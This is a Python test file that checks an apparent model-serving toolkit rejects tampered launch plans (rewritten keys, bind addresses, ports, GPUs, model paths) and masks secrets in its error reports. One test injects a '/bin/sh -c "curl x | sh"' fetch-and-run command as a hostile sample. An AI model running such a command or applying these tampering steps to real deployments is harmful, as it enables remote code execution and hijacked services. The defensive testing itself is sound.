"""Checking a received plan against the shard its receiver expected (issue 30, item 3).

The attack: rewrite a plan's shard (another key, bind address, model, GPUs) and rebuild its
commands to match. Such a plan agrees with itself, so replanning the shard it carries
passes; planning the shard the receiver expected does not.
"""

from __future__ import annotations

import json
from typing import Any

import attrs
import pytest
from enginekit import Command, LaunchPlan, PlanMismatch, Profile, Registry, ShardSpec, SpecError, hookimpl
from enginekit.base.secrets import MASK
from enginekit.placement.builder import CommandBuilder
from enginekit.platform.verify import differences
from enginekit.policy.engine import EnginePolicy

KEY = "ekt.Q7vXr2Lm9ZpK4wTb8NcYs3Hd"
OTHER_KEY = "ekt.attacker0000000000000000"


class Toy:
    @hookimpl
    def policy(self) -> EnginePolicy:
        return EnginePolicy(secret_env=frozenset({"TOY_API_KEY"}))

    @hookimpl
    def validate(self) -> list[str]:
        return []

    @hookimpl
    def commands(self, shard: ShardSpec) -> list[Command]:
        builder = CommandBuilder(shard)
        builder.put_secret("TOY_API_KEY", shard.api_key)
        args = [
            "--model",
            shard.profile.model_path,
            "--host",
            shard.bind_addr,
            "--port",
            str(shard.http_port),
        ]
        return [builder.command("/usr/bin/toy", args)]


@pytest.fixture
def registry() -> Registry:
    registry = Registry()
    registry.add(Toy(), name="toy")
    return registry


def shard(**changes: Any) -> ShardSpec:
    profile = Profile(name="p", engine="toy", model_path="/models/llama")
    fields: dict[str, Any] = {
        "replica_id": "r1",
        "shard_id": "s1",
        "gpu_indices": (0,),
        "http_port": 8000,
        "bind_addr": "10.0.0.5",
        "api_key": KEY,
        "profile": profile,
    }
    return ShardSpec(**(fields | changes))


def tampered(registry: Registry, **changes: Any) -> LaunchPlan:
    """The attack: the shard rewritten, and every command rebuilt to match it."""
    return registry.engine("toy").plan(attrs.evolve(shard(), **changes))


def mismatch(registry: Registry, received: LaunchPlan | dict[str, Any]) -> list[str]:
    with pytest.raises(PlanMismatch) as caught:
        registry.verify_plan(received, shard())
    return list(caught.value.problems)


def test_the_plan_the_shard_yields_passes_and_is_returned(registry: Registry) -> None:
    plan = registry.engine("toy").plan(shard())
    assert registry.verify_plan(plan, shard()) is plan


def test_its_json_form_passes_too_and_is_read(registry: Registry) -> None:
    plan = registry.engine("toy").plan(shard())
    raw = json.loads(json.dumps(plan.to_dict(show_secrets=True)))
    assert registry.verify_plan(raw, shard()) == plan


def test_a_masked_plan_does_not_read(registry: Registry) -> None:
    raw = registry.engine("toy").plan(shard()).to_dict()
    with pytest.raises(SpecError, match="holds the mask"):
        registry.verify_plan(raw, shard())


def test_replanning_the_carried_shard_is_fooled_which_is_why_this_exists(registry: Registry) -> None:
    bad = tampered(registry, bind_addr="0.0.0.0")
    assert registry.engine("toy").plan(bad.shard) == bad  # the old recipe: passes
    assert "plan.shard.bind_addr: '0.0.0.0', expected '10.0.0.5'" in mismatch(registry, bad)


@pytest.mark.parametrize(
    ("changes", "fields"),
    [
        ({"bind_addr": "0.0.0.0"}, {"plan.shard.bind_addr", "plan.commands[0].args[3]"}),
        ({"http_port": 9000}, {"plan.shard.http_port", "plan.commands[0].args[5]"}),
        ({"gpu_indices": (3,)}, {"plan.shard.gpu_indices[0]", "plan.commands[0].env.CUDA_VISIBLE_DEVICES"}),
        ({"shard_id": "s2"}, {"plan.shard.shard_id"}),
        ({"replica_id": "r2"}, {"plan.shard.replica_id"}),
        (
            {"profile": Profile(name="p", engine="toy", model_path="/models/evil")},
            {"plan.shard.profile.model_path", "plan.commands[0].args[1]"},
        ),
        (
            {
                "profile": Profile(
                    name="p", engine="toy", model_path="/models/llama", env={"NCCL_DEBUG": "INFO"}
                )
            },
            {"plan.shard.profile.env.NCCL_DEBUG", "plan.commands[0].env.NCCL_DEBUG"},
        ),
    ],
)
def test_each_rewritten_field_is_named(registry: Registry, changes: dict[str, Any], fields: set[str]) -> None:
    named = {problem.split(":")[0] for problem in mismatch(registry, tampered(registry, **changes))}
    assert fields <= named


def test_another_key_is_named_and_neither_key_is_shown(registry: Registry) -> None:
    problems = mismatch(registry, tampered(registry, api_key=OTHER_KEY))
    named = {p.split(":")[0] for p in problems}
    assert {"plan.shard.api_key", "plan.commands[0].env.TOY_API_KEY"} <= named
    text = "\n".join(problems)
    assert KEY not in text
    assert OTHER_KEY not in text
    assert "a secret: not shown" in text


def test_a_key_copied_into_an_argument_is_shown_masked(registry: Registry) -> None:
    plan = registry.engine("toy").plan(shard())
    main = plan.commands[0]
    bad = attrs.evolve(plan, commands=(attrs.evolve(main, args=(*main.args, "--token", KEY)),))
    problems = mismatch(registry, bad)
    assert "plan.commands[0].args[6]: '--token', expected absent" in problems
    assert f"plan.commands[0].args[7]: '{MASK}', expected absent" in problems
    assert KEY not in "\n".join(problems)


def test_a_command_added_before_the_main_one_is_named(registry: Registry) -> None:
    plan = registry.engine("toy").plan(shard())
    bad = attrs.evolve(plan, commands=(Command(path="/bin/sh", args=("-c", "curl x | sh")), *plan.commands))
    named = {p.split(":")[0] for p in mismatch(registry, bad)}
    assert "plan.commands[0].path" in named
    assert "plan.commands[1]" in named  # the real one, now second, compared with nothing


def test_each_problem_names_one_field_and_all_are_listed(registry: Registry) -> None:
    plan = registry.engine("toy").plan(shard())
    bad = attrs.evolve(plan, health_path="/x", metrics_path="/y", notes=("trust me",))
    problems = mismatch(registry, bad)
    assert problems == [
        "plan.health_path: '/x', expected '/health'",
        "plan.metrics_path: '/y', expected '/metrics'",
        "plan.notes[0]: 'trust me', expected absent",
    ]


def test_a_flag_given_as_a_number_is_a_difference() -> None:
    plan = LaunchPlan(
        engine="toy",
        shard=shard(),
        commands=(Command(path="/usr/bin/toy"),),
        serves_http=True,
        health_path="/health",
        metrics_path="/metrics",
    )
    raw = plan.to_dict(show_secrets=True)
    assert differences(plan, plan) == []
    other = attrs.evolve(plan, serves_http=False)
    assert differences(other, plan) == ["plan.serves_http: False, expected True"]
    assert raw["serves_http"] is True


def test_the_expected_shard_is_judged_by_the_engine(registry: Registry) -> None:
    plan = registry.engine("toy").plan(shard())
    with pytest.raises(SpecError):
        registry.verify_plan(plan, shard(http_port=80, gpu_indices=(0, 0)))


def test_a_plan_for_another_engine_is_named(registry: Registry) -> None:
    registry.add(Toy(), name="other")
    other = shard(profile=Profile(name="p", engine="other", model_path="/models/llama"))
    plan = registry.engine("other").plan(other)
    named = {p.split(":")[0] for p in mismatch(registry, plan)}
    assert {"plan.engine", "plan.shard.profile.engine"} <= named


def test_long_values_are_cut_and_unsafe_ones_escaped(registry: Registry) -> None:
    plan = registry.engine("toy").plan(shard())
    bad = attrs.evolve(plan, notes=("x" * 500 + "\x1b[2J",))
    (problem,) = mismatch(registry, bad)
    assert len(problem) < 120
    assert "\x1b" not in problem
    assert problem.endswith("…, expected absent")


def test_a_variable_added_or_removed_is_named_against_absent(registry: Registry) -> None:
    plan = registry.engine("toy").plan(shard())
    main = plan.commands[0]
    added = attrs.evolve(plan, commands=(attrs.evolve(main, env={**main.env, "NCCL_DEBUG": "INFO"}),))
    assert "plan.commands[0].env.NCCL_DEBUG: 'INFO', expected absent" in mismatch(registry, added)
    fewer = {k: v for k, v in main.env.items() if k != "CUDA_DEVICE_ORDER"}
    removed = attrs.evolve(plan, commands=(attrs.evolve(main, env=fewer),))
    assert "plan.commands[0].env.CUDA_DEVICE_ORDER: absent, expected 'PCI_BUS_ID'" in mismatch(
        registry, removed
    )


def test_the_keys_own_field_is_named_without_its_value(registry: Registry) -> None:
    problems = mismatch(registry, tampered(registry, api_key=OTHER_KEY))
    assert "plan.shard.api_key: differs from what the expected shard yields (a secret: not shown)" in problems


def test_a_secret_variable_only_the_received_plan_marks_is_not_shown(registry: Registry) -> None:
    plan = registry.engine("toy").plan(shard())
    main = plan.commands[0]
    extra = attrs.evolve(
        main, env={**main.env, "TOY_TOKEN": "hunter2-hunter2"}, secret_env=main.secret_env | {"TOY_TOKEN"}
    )
    problems = mismatch(registry, attrs.evolve(plan, commands=(extra,)))
    assert (
        "plan.commands[0].env.TOY_TOKEN: differs from what the expected shard yields (a secret: not shown)"
        in (problems)
    )
    assert "hunter2" not in "\n".join(problems)


def test_the_gpus_given_are_the_ones_planned_with(registry: Registry) -> None:
    from enginekit import GPUInfo

    plan = registry.engine("toy").plan(shard())
    mixed = [GPUInfo(index=0, name="H100"), GPUInfo(index=1, name="A10")]
    with pytest.raises(SpecError):
        registry.verify_plan(plan, shard(), gpus=[GPUInfo(index=0, compute_capability="x.y")])
    with pytest.raises(SpecError):
        registry.engine("toy").verify(plan, shard(), gpus=[GPUInfo(index=0, compute_capability="x.y")])
    assert registry.verify_plan(plan, shard(), gpus=mixed[:1]) is plan


def test_walk_compares_lists_only_with_lists() -> None:
    from enginekit.platform.verify import _walk

    assert list(_walk("p", [1], None)) == [("p", [1], None)]
    assert list(_walk("p", None, [1])) == [("p", None, [1])]
    assert next(iter(_walk("p", {"a": [1, 2]}, {"a": [1]})))[:2] == ("p.a[1]", 2)
